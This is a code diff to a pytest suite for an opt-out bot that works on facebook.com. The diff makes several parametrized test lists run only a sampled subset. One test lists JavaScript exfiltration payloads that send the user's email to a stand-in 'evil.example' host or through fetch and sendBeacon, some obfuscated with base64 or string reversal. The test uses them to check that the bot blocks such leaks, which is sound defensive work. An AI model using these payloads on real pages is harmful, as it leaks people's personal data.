@@ -20,6 +20,7 @@ from optout_bot.lock.lock import Lock, Phase
 from optout_bot.lock.request import Answer, Request
 from optout_bot.lock.ticket import Ticket
 from tests.conftest import EMAIL, FENCE
+from tests.tiers import sampled
 
 T = TypeVar("T")
 HOST = "www.facebook.com"
@@ -245,17 +246,20 @@ def test_of_three_requests_on_one_ticket_one_leaves(opened: Any) -> None:
 
 @pytest.mark.parametrize(
     "sending",
-    [
-        post("another@example.org"),
-        post(EMAIL, "/elsewhere"),
-        post(EMAIL, host="https://evil.example"),
-        f"navigator.sendBeacon('{SUBMIT}', '{EMAIL}')",
-        f"fetch('{SUBMIT}', {{method: 'PUT', body: '{EMAIL}'}})",
-        f"fetch('{SUBMIT}?email={EMAIL}')",
-        f"fetch('/x?' + btoa('{EMAIL}'))",
-        "fetch('/x/' + '" + EMAIL + "'.match(/..?/g).join('/'))",
-        "fetch('/x?' + [...'" + EMAIL + "'].reverse().join(''))",
-    ],
+    sampled(
+        [
+            post("another@example.org"),
+            post(EMAIL, "/elsewhere"),
+            post(EMAIL, host="https://evil.example"),
+            f"navigator.sendBeacon('{SUBMIT}', '{EMAIL}')",
+            f"fetch('{SUBMIT}', {{method: 'PUT', body: '{EMAIL}'}})",
+            f"fetch('{SUBMIT}?email={EMAIL}')",
+            f"fetch('/x?' + btoa('{EMAIL}'))",
+            "fetch('/x/' + '" + EMAIL + "'.match(/..?/g).join('/'))",
+            "fetch('/x?' + [...'" + EMAIL + "'].reverse().join(''))",
+        ],
+        4,
+    ),
 )
 def test_a_ticket_is_for_nothing_else(opened: Any, sending: str) -> None:
     there = opened()
@@ -425,7 +429,9 @@ def test_the_note_shows_under_the_strictest_policy(browser: Browser) -> None:
 
 @pytest.mark.parametrize(
     ("asks", "answered"),
-    [("confirm('Send?')", False), ("prompt('Send?', 'yes')", None), ("alert('x')", None)],
+    sampled(
+        [("confirm('Send?')", False), ("prompt('Send?', 'yes')", None), ("alert('x')", None)], 1
+    ),
 )
 def test_no_dialog_of_a_page_is_answered_yes(opened: Any, asks: str, answered: object) -> None:
     there = opened()
@@ -548,7 +554,7 @@ def test_a_lock_that_lets_things_pass_ends_the_start(
         start(launch)
 
 
-@pytest.mark.parametrize("way", selftest.WAYS)
+@pytest.mark.parametrize("way", sampled(selftest.WAYS, 2))
 def test_a_lock_that_lets_one_way_pass_ends_the_start(
     opened: Any, monkeypatch: pytest.MonkeyPatch, way: str
 ) -> None:
